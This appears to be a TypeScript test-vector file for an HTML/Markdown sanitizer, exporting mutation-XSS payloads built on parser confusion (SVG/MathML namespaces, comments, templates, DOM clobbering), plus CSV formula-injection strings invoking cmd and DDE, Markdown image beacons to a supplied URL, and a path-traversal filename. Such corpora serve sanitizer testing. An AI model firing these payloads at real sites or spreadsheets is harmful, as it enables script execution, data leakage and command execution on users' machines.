import type { Vector } from './vectors.ts';

/** Markup that changes its meaning between two readings: namespaces, comments, raw text, templates. `@` is the script. */
const CONFUSED = [
  '<svg><desc><style><a title="</style><img src=x onerror=@>"></style></desc></svg>',
  '<svg><title><svg><style><a id="</style><img src=x onerror=@>"></style></svg></title></svg>',
  '<svg><foreignobject><math><mi><mglyph><style><!--</style><img title="--><img src=x onerror=@>">',
  '<math><mtext><mglyph><svg><mtext><style><a title="</style><img src=x onerror=@>">',
  '<math><mtext><malignmark><style><!--</style><img src=x onerror="@">--></style>',
  '<math><annotation-xml encoding="application/xhtml+xml"><svg><style><img src=x onerror="@"></style></svg></annotation-xml></math>',
  '<math xlink:href="javascript:@"><mtext>x</mtext></math>',
  '<form><math><mtext></form><form><mglyph><svg><mtext><style><path id="</style><img onerror=@ src=x>">',
  '<table><caption><svg><title><table><caption></caption></table></title></svg><style></caption><img src=x onerror="@"></style>',
  '<select><svg><style></select><img src=x onerror="@"></style></svg></select>',
  '<svg><p><style><!--</style><img src=x onerror="@">--></p></svg>',
  '<svg></p><math></p><title><noscript></title><img src=x onerror="@"></noscript>',
  '<noscript><style></noscript><img src=x onerror="@"></style>',
  '<noembed><style></noembed><img src=x onerror="@"></style>',
  '<noframes><!--</noframes><img src=x onerror="@">-->',
  '<iframe><!--</iframe><img src=x onerror="@">-->',
  '<xmp><svg><b><style><b title="</xmp><img src=x onerror=@>"></style>',
  '<title><template><!--</title><img src=x onerror="@">--></template>',
  '<template><s><template><s><img src=x onerror="@"></s></template></s></template>',
  '<template shadowrootmode=closed><style>:host{background:url(x)}</style><img src=x onerror="@"></template>',
  '<!--><img src=x onerror="@"><!---->',
  '<!---><img src=x onerror="@">',
  '<!-- --!><img src=x onerror="@"><!-- -->',
  '<!doctype x "<img src=x onerror=@>"><img src=x onerror="@">',
  '<? ><img src=x onerror="@">',
  '</ ><img src=x onerror="@">',
  '<a\u000cid=x\u000bonclick="@">x</a><img\u000csrc=x\u000conerror="@">',
  '<img \u0000src=x \u0000onerror="@">',
  '<\u0000img src=x onerror="@">',
  '<img src=x onerror=@ //',
  '<img src="x" \u201conerror="@">',
  '<a href="x" is="x-y" onerror="@"><img is=x src=x onerror="@"></a>',
  '<div id=cookie><div name=cookie><form name=createElement><input name=attributes><img name=implementation src=x onerror="@"></form>',
  '<form id=x><input name=nodeName><input name=removeChild><img src=x onerror="@"></form>',
  `${'<div>'.repeat(600)}<img src=x onerror="@">`,
  `${'<b>'.repeat(300)}<table>${'</b>'.repeat(300)}<img src=x onerror="@">`,
  `${'<svg><foreignObject>'.repeat(130)}<style></svg><img src=x onerror="@">`,
  `<p>${'<font color=a>'.repeat(200)}</p><p><img src=x onerror="@">`,
  '<option><style></option></select><img src=x onerror=@></style>',
  '<button popovertarget=x onbeforetoggle="@">x</button><div popover id=x ontoggle="@">x</div>',
  '<details name=x open ontoggle="@"><summary>x</summary></details>',
  '<div style="content-visibility:auto" oncontentvisibilityautostatechange="@">x</div>',
  '<video autoplay onloadstart="@" onwaiting="@" src=x></video>',
  '<p onscrollsnapchange="@" onpointerrawupdate="@" onbeforematch="@" hidden=until-found>x</p>',
];

/** Text for readers that come after us: Markdown of more dialects, spreadsheets in other forms, links by themselves. */
const AFTERWARDS: readonly Vector[] = [
  script => `＝cmd|'/C ${script}'!A0`,
  script => `\n=cmd|'/C ${script}'!A0`,
  script => `  =cmd|'/C ${script}'!A0`,
  script => `\u00a0+cmd|'/C ${script}'!A0`,
  script => `"=cmd|'/C ${script}'!A0`,
  script => `x,=cmd|'/C ${script}'!A0`,
  script => `x\r\n=cmd|'/C ${script}'!A0,`,
  (_, url) => `=DDE("cmd";"/C calc";"${url}")`,
  (_, url) => `@IMAGE("${url}")`,
  (_, url) => `x\r# heading\r\r![x](${url})`,
  (_, url) => `x\u2028![x](${url})\u2029![x](${url})`,
  (_, url) => `\\![x](${url})`,
  (_, url) => `\\\\![x](${url})`,
  (_, url) => `[x](<${url}> 'x')`,
  (_, url) => `[^1]\n\n[^1]: ![x](${url})`,
  (_, url) => `| a |\n| - |\n| ![x](${url}) |`,
  (_, url) => `~~~\n~~~\n<img src="${url}">`,
  script => `$$\\href{javascript:${script}}{x}$$`,
  script => `:::html\n<img src=x onerror="${script}">\n:::`,
  script => `---\ntitle: x\n---\n<script>${script}</script>`,
  (_, url) => `<!-- -->\n<img src="${url}">`,
  () => '1. one\n2. two\n===\n---\n- [ ] x',
  () => 'CON\u0000.html/../../x\\y:z*?"<>|',
  () => `${'\ud83d\ude00'.repeat(70)}`,
];

const attribute = (script: string): string => script.replace(/"/g, '&quot;');

/** Forms that came after the first collection: each as a function of what to run and where to ask. */
export const CONFUSIONS: readonly Vector[] = [
  ...CONFUSED.map(
    (template): Vector =>
      script =>
        template.split('@').join(attribute(script)),
  ),
  ...AFTERWARDS,
];
